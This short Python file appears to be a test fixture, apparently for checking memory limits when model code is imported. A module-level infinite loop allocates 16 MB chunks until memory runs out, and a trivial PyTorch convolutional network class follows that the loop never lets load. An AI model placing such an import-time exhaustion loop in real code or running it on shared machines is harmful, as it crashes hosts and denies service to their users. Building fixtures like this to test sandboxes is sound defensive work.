"""Takes memory until there is none."""

from torch import nn

grown = []
while True:
    grown.append(bytearray(2**24))


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3)

    def forward(self, x):
        return self.conv(x)
